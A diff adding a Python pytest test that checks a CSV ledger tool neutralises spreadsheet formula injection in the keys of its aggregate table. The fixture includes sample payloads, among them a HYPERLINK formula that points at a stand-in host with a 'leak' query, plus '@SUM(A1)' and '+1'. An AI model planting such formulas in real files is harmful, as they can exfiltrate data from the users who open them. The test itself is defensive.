@@ -720,6 +720,32 @@ def test_a_sum_past_int64_cents_says_the_side_it_left_by(figures):
     assert words in text and other not in text, text
 
 
+@pytest.mark.parametrize("lang", ["fr", "en"])
+def test_aggregate_s_ledger_table_guards_formulas_in_its_labels(tmp_path, capsys, lang):
+    # `essconv aggregate LEDGER.csv --by f --amount m > sums.txt`: the aligned table wrote its
+    # keys raw at the start of its lines, so a beneficiary "=HYPERLINK(...)", "@SUM(A1)", "+1"
+    # or "-1+2" ran as a formula in the spreadsheet that opened the file -- where the plan's
+    # listing and `convert --to tsv` guard them
+    grants = tmp_path / "registre.csv"
+    grants.write_text('=f;g;m\n"=HYPERLINK(""http://x.example/?leak"")";@x;1,00\n'
+                      "@SUM(A1);+2;2,00\n+1;-1+2;3,00\n-1+2;=1;4,00\n-5;-5;5,00\n",
+                      encoding="utf-8")
+    assert main(["aggregate", str(grants), "--amount", "m", "--by", "=f,g",
+                 "--lang", lang]) == 0
+    lines = capsys.readouterr().out.splitlines()
+    assert lines[0].startswith("'=f"), lines
+    keys = [line.split()[:2] for line in lines[2:7]]
+    for guarded in ['\'=HYPERLINK("http://x.example/?leak")', "'@SUM(A1)", "'+1", "'-1+2"]:
+        assert any(k[0] == guarded for k in keys), keys
+    for second in ["'@x", "'+2", "'-1+2", "'=1"]:    # a second key column alike
+        assert any(k[1] == second for k in keys), keys
+    assert ["-5", "-5"] in keys                    # a plain number stays a number
+    # nothing a spreadsheet would run (the rule under the heading is essconv's own dashes)
+    for line in lines[:1] + lines[2:]:
+        assert not line.startswith(("=", "+", "@", "\t", "\r")), line
+        assert not line.startswith("-") or re.match(r"-[\d ]+(,\d+)?(\s|$)", line), line
+
+
 def test_a_refusal_of_a_sum_under_the_floor_says_the_floor(tmp_path, capsys):
     grants = tmp_path / "negatifs.csv"
     grants.write_text("f;m\nA;-92233720368547758,08\nB;-10,00\n", encoding="utf-8")
